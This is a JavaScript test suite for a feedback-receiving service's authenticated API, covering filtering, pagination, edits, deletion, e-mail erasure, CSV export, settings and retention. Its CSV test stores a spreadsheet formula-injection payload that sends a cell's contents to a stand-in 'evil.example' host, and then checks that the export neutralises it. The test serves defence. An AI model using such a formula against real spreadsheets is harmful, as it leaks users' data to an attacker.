// The authenticated API on both stores: list, filters, search, cursor, count, one answer, PATCH,
// DELETE, erase, CSV export, overview, settings, retention.
import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { parse } from 'csv-parse/sync';
import { STORES, signedIn, storeAnswers, useReceiver, wireAnswer } from './support/server.js';

const json = async (response, status = 200) => {
  const text = await response.text();
  assert.equal(response.status, status, text);
  return text === '' ? null : JSON.parse(text);
};

for (const kind of STORES) {
  describe(`API (${kind})`, () => {
    test('list newest first with receivedAt, status, tags, note, read, replies; filters; cursor', async (t) => {
      const receiver = await useReceiver(t, kind);
      const owner = await signedIn(receiver);
      const answers = await storeAnswers(receiver.url, [
        wireAnswer({ answer: 'The delivery was late', topic: 'delivery', rating: 2, lang: 'en', email: 'ann@example.com' }),
        wireAnswer({ answer: 'Lovely colours in the shop', topic: 'design', rating: 5, lang: 'en' }),
        wireAnswer({ answer: 'Levering kwam te laat', topic: 'delivery', rating: 1, lang: 'nl', site: 'shop-7' }),
      ]);
      const page = await json(await owner('/api/answers'));
      assert.deepEqual(page.answers.map((a) => a.id), answers.map((a) => a.id).reverse());
      assert.equal(page.next, null);
      const newest = page.answers[0];
      assert.equal(newest.status, 'new');
      assert.deepEqual(newest.tags, []);
      assert.equal(newest.note, '');
      assert.equal(newest.read, false);
      assert.deepEqual(newest.replies, []);
      assert.ok(!Number.isNaN(Date.parse(newest.receivedAt)));
      for (const field of ['id', 'version', 'site', 'answer', 'email', 'rating', 'topic', 'lang', 'page', 'createdAt', 'context']) {
        assert.ok(field in newest, field);
      }

      const ids = async (query) => (await json(await owner(`/api/answers?${query}`))).answers.map((a) => a.answer);
      assert.deepEqual(await ids('topic=delivery'), ['Levering kwam te laat', 'The delivery was late']);
      assert.deepEqual(await ids('rating=5'), ['Lovely colours in the shop']);
      assert.deepEqual(await ids('lang=nl'), ['Levering kwam te laat']);
      assert.deepEqual(await ids('site=shop-7'), ['Levering kwam te laat']);
      assert.deepEqual(await ids('q=delivery'), ['The delivery was late']);
      assert.deepEqual(await ids('hasEmail=true'), ['The delivery was late']);
      assert.deepEqual(await ids('email=ANN@example.com'), ['The delivery was late']);
      assert.deepEqual(await ids('since=2000-01-01&until=2000-01-02'), []);
      assert.equal((await ids('since=2000-01-01')).length, 3);

      const first = await json(await owner('/api/answers?limit=2'));
      assert.equal(first.answers.length, 2);
      assert.ok(first.next);
      const second = await json(await owner(`/api/answers?limit=2&cursor=${encodeURIComponent(first.next)}`));
      assert.deepEqual(second.answers.map((a) => a.id), [answers[0].id]);
      assert.equal(second.next, null);

      assert.deepEqual(await json(await owner('/api/answers/count?topic=delivery')), { count: 2 });
      assert.equal((await json(await owner(`/api/answers/${answers[1].id}`))).answer, 'Lovely colours in the shop');
      assert.equal((await owner('/api/answers/3f0c1c2e-1111-4222-8333-444455556666')).status, 404);
    });

    test('page: the list, the count and the CSV of one exact page (as the overview links to them)', async (t) => {
      const receiver = await useReceiver(t, kind);
      const owner = await signedIn(receiver);
      // a page as long as the wire format allows: the overview links to every page it lists
      const longPage = `https://shop.example/${'p'.repeat(2048 - 'https://shop.example/'.length)}`;
      await storeAnswers(receiver.url, [
        wireAnswer({ answer: 'cart one', page: 'https://shop.example/cart' }),
        wireAnswer({ answer: 'checkout', page: 'https://shop.example/checkout' }),
        wireAnswer({ answer: 'cart two', page: 'https://shop.example/cart', rating: 4 }),
        wireAnswer({ answer: 'long', page: longPage }),
      ]);
      const cart = encodeURIComponent('https://shop.example/cart');
      const texts = async (query) => (await json(await owner(`/api/answers?${query}`))).answers.map((a) => a.answer);
      assert.deepEqual(await texts(`page=${cart}`), ['cart two', 'cart one']);
      assert.deepEqual(await texts(`page=${cart}&rating=4`), ['cart two']);
      assert.deepEqual(await texts(`page=${encodeURIComponent('https://shop.example/')}`), [], 'exact, not a prefix');
      assert.deepEqual(await texts(`page=${encodeURIComponent(longPage)}`), ['long']);
      assert.deepEqual(await json(await owner(`/api/answers/count?page=${cart}`)), { count: 2 });
      const csv = await owner(`/api/answers.csv?page=${cart}`);
      assert.equal(csv.status, 200);
      const rows = parse(Buffer.from(await csv.arrayBuffer()), { bom: true, columns: true });
      assert.deepEqual(rows.map((row) => row.answer), ['cart two', 'cart one']);
      const tooLong = await json(await owner(`/api/answers?page=${encodeURIComponent(`${longPage}x`)}`), 400);
      assert.match(tooLong.error, /"page" must be at most 2048 characters/);
    });

    test('503 with Retry-After when the store is down', async (t) => {
      const receiver = await useReceiver(t, kind);
      const owner = await signedIn(receiver);
      await receiver.store.close();
      for (const route of ['/api/answers', '/api/answers.csv']) {
        const response = await owner(route);
        assert.equal(response.status, 503, route);
        assert.match(response.headers.get('retry-after'), /^\d+$/, route);
      }
    });

    test('bad queries are 400 naming the parameter', async (t) => {
      const receiver = await useReceiver(t, kind);
      const owner = await signedIn(receiver);
      const cases = [
        ['status=closed', /"status" must be one of new, handled, spam/],
        ['rating=7', /"rating" must be an integer from 1 to 5/],
        ['limit=500', /"limit" must be an integer from 1 to 200/],
        ['limit=0', /"limit"/],
        ['since=yesterday', /"since" must be an ISO 8601 date/],
        ['hasEmail=maybe', /"hasEmail" must be true or false/],
        ['stauts=new', /unknown query parameter "stauts"/],
        ['topic=a&topic=b', /"topic" must be given once/],
        ['cursor=not-a-cursor', /cursor/],
      ];
      for (const [query, message] of cases) {
        const body = await json(await owner(`/api/answers?${query}`), 400);
        assert.match(body.error, message, query);
      }
    });

    test('PATCH changes status, read, tags and note; bad fields are 400; DELETE is for good', async (t) => {
      const receiver = await useReceiver(t, kind);
      const owner = await signedIn(receiver);
      const [answer] = await storeAnswers(receiver.url, [wireAnswer()]);
      const updated = await json(
        await owner(`/api/answers/${answer.id}`, { method: 'PATCH', body: { status: 'handled', read: true, tags: ['bug', ' bug ', 'vip'], note: 'called back' } }),
      );
      assert.equal(updated.status, 'handled');
      assert.equal(updated.read, true);
      assert.deepEqual(updated.tags.sort(), ['bug', 'vip']);
      assert.equal(updated.note, 'called back');
      assert.deepEqual((await json(await owner('/api/answers?tag=vip'))).answers.map((a) => a.id), [answer.id]);
      assert.deepEqual((await json(await owner('/api/answers?status=new'))).answers, []);

      for (const [body, message] of [
        [{ status: 'closed' }, /"status" must be one of/],
        [{ read: 'yes' }, /"read" must be true or false/],
        [{ tags: 'bug' }, /"tags" must be an array of strings/],
        [{ note: 5 }, /"note" must be a string/],
        [{ answer: 'rewritten' }, /"answer" cannot be changed/],
        [{}, /nothing to change/],
      ]) {
        assert.match((await json(await owner(`/api/answers/${answer.id}`, { method: 'PATCH', body }), 400)).error, message);
      }
      assert.equal((await owner('/api/answers/3f0c1c2e-1111-4222-8333-444455556666', { method: 'PATCH', body: { read: true } })).status, 404);

      assert.equal((await owner(`/api/answers/${answer.id}`, { method: 'DELETE' })).status, 204);
      assert.equal((await owner(`/api/answers/${answer.id}`)).status, 404);
      assert.equal((await owner(`/api/answers/${answer.id}`, { method: 'DELETE' })).status, 404);
      assert.equal(await receiver.store.get(answer.id), null);
    });

    test('erase deletes every answer given with an e-mail address', async (t) => {
      const receiver = await useReceiver(t, kind);
      const owner = await signedIn(receiver);
      const [keep] = await storeAnswers(receiver.url, [
        wireAnswer({ email: 'other@example.com' }),
        wireAnswer({ email: 'gone@example.com' }),
        wireAnswer({ email: 'Gone@Example.com' }),
      ]);
      assert.deepEqual(await json(await owner('/api/answers/count?email=gone@example.com')), { count: 2 });
      assert.deepEqual(await json(await owner('/api/erase', { method: 'POST', body: { email: 'gone@example.com' } })), { deleted: 2 });
      assert.deepEqual((await json(await owner('/api/answers'))).answers.map((a) => a.id), [keep.id]);
      assert.match((await json(await owner('/api/erase', { method: 'POST', body: { email: 'nope' } }), 400)).error, /"email" must be an e-mail address/);
    });

    test('CSV: header row, UTF-8, filters, formulas neutralised, as an attachment', async (t) => {
      const receiver = await useReceiver(t, kind);
      const owner = await signedIn(receiver);
      await storeAnswers(receiver.url, [
        wireAnswer({ answer: '=HYPERLINK("https://evil.example?"&A1,"click")', topic: 'x' }),
        wireAnswer({ answer: '+1 great', topic: 'x', email: '@attacker' }),
        wireAnswer({ answer: '-2 bad', topic: 'x', context: { note: 'a,b "quoted"\nline' } }),
        wireAnswer({ answer: '@SUM(1)', topic: 'x' }),
        wireAnswer({ answer: '\tTabbed', topic: 'x' }),
        wireAnswer({ answer: 'Crème brûlée — ½ 👍', topic: 'x', rating: 5 }),
        wireAnswer({ answer: 'not exported', topic: 'y' }),
      ]);
      const response = await owner('/api/answers.csv?topic=x');
      assert.equal(response.status, 200);
      assert.match(response.headers.get('content-type'), /^text\/csv; charset=utf-8/);
      assert.match(response.headers.get('content-disposition'), /^attachment; filename="feedback-\d{4}-\d{2}-\d{2}\.csv"$/);
      const rows = parse(Buffer.from(await response.arrayBuffer()), { bom: true, columns: true });
      assert.equal(rows.length, 6);
      const byAnswer = new Map(rows.map((row) => [row.answer, row]));
      for (const cell of ['\'=HYPERLINK("https://evil.example?"&A1,"click")', "'+1 great", "'-2 bad", "'@SUM(1)", "'\tTabbed", 'Crème brûlée — ½ 👍']) {
        assert.ok(byAnswer.has(cell), `${JSON.stringify(cell)} in ${JSON.stringify([...byAnswer.keys()])}`);
      }
      assert.equal(byAnswer.get("'+1 great").email, "'@attacker");
      assert.deepEqual(JSON.parse(byAnswer.get("'-2 bad").context), { note: 'a,b "quoted"\nline' });
      assert.equal(byAnswer.get('Crème brûlée — ½ 👍').rating, '5');
      assert.deepEqual(Object.keys(rows[0]).slice(0, 4), ['id', 'receivedAt', 'createdAt', 'status']);
    });

    test('overview and settings', async (t) => {
      const receiver = await useReceiver(t, kind, { notifyEmail: 'flags@shop.example' });
      const owner = await signedIn(receiver);
      await storeAnswers(receiver.url, [wireAnswer({ topic: 'delivery' }), wireAnswer({ topic: 'delivery' })]);
      const overview = await json(await owner('/api/overview'));
      assert.equal(overview.total, 2);
      assert.deepEqual(overview.byTopic, [{ topic: 'delivery', count: 2 }]);
      assert.match((await json(await owner('/api/overview?since=soon'), 400)).error, /"since"/);

      assert.deepEqual(await json(await owner('/api/settings')), { notifyEmail: 'flags@shop.example', digest: 'off', retentionDays: null });
      const changed = await json(await owner('/api/settings', { method: 'PATCH', body: { notifyEmail: null, retentionDays: 30 } }));
      assert.deepEqual(changed, { notifyEmail: null, digest: 'off', retentionDays: 30 });
      for (const [body, message] of [
        [{ digest: 'weekly' }, /"digest" must be "off" or "daily"/],
        [{ retentionDays: 0 }, /"retentionDays" must be null or a whole number/],
        [{ notifyEmail: 'nope' }, /"notifyEmail" must be null or an e-mail address/],
        [{ colour: 'red' }, /"colour" is not a setting/],
      ]) {
        assert.match((await json(await owner('/api/settings', { method: 'PATCH', body }), 400)).error, message);
      }
      // The owner's choice outlives a restart with the old flags.
      const restarted = await useReceiver(t, kind, { location: receiver.location, notifyEmail: 'flags@shop.example' });
      const again = await signedIn(restarted);
      assert.deepEqual(await json(await again('/api/settings')), { notifyEmail: null, digest: 'off', retentionDays: 30 });
    });

    test('retention deletes answers received before the period, from the flag or the owner\'s setting', async (t) => {
      let now = Date.parse('2026-01-01T12:00:00Z');
      const receiver = await useReceiver(t, kind, { retentionDays: 30, now: () => new Date(now) });
      const [old] = await storeAnswers(receiver.url, [wireAnswer()]);
      now += 20 * 86_400_000;
      const [recent] = await storeAnswers(receiver.url, [wireAnswer()]);
      now += 15 * 86_400_000; // old is 35 days old, recent 15
      assert.equal(await receiver.applyRetention(), 1);
      assert.equal(await receiver.store.get(old.id), null);
      assert.ok(await receiver.store.get(recent.id));

      const owner = await signedIn(receiver);
      await json(await owner('/api/settings', { method: 'PATCH', body: { retentionDays: 10 } }));
      assert.equal(await receiver.applyRetention(), 1);
      assert.equal(await receiver.store.get(recent.id), null);
    });
  });
}
